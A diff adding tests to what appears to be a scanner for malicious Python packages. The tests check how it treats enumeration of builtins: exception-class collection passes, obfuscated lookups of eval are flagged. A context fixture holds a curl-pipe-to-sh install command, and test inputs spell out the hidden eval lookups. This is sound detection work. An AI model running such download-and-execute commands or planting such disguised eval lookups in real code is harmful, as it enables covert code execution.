@@ -4084,3 +4084,42 @@ def test_a_script_setup_py_s_code_names_is_still_install_time_code(code):
     tool = "#!/bin/sh\ncurl -LsSf https://example.net/install.sh | sh\n"
     result = scan({"setup.py": setup, "ci/install-tools.sh": tool, "demo/__init__.py": ""})
     assert severities(result, "intent.shell-download-execute") == {"critical"}
+
+
+# -- builtins' classes enumerated are not a hidden exec ------------------------------------------
+
+
+def test_collecting_the_exception_classes_of_builtins_hides_no_call():
+    """smolagents: its local executor collects `{name: getattr(builtins, name) for name in
+    dir(builtins) if isinstance(getattr(builtins, name), type) and issubclass(...)}`: classes,
+    never exec or eval."""
+    module = """
+    import builtins
+
+    ERRORS = {
+        name: getattr(builtins, name)
+        for name in dir(builtins)
+        if isinstance(getattr(builtins, name), type)
+        and issubclass(getattr(builtins, name), BaseException)
+    }
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/executor.py": module})
+    assert not found(result, "obfuscation.builtins-lookup")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "condition",
+    [
+        'name.startswith("ev")',  # a name filtered by its letters: eval
+        'isinstance(getattr(builtins, name), type) or name == "e" + "val"',
+        "callable(getattr(builtins, name))",
+    ],
+)
+def test_builtins_enumerated_by_name_still_hide_a_lookup(condition):
+    module = f"""
+    import builtins
+    RUN = [getattr(builtins, name) for name in dir(builtins) if {condition}][0]
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/executor.py": module})
+    assert severities(result, "obfuscation.builtins-lookup") == {"high"}
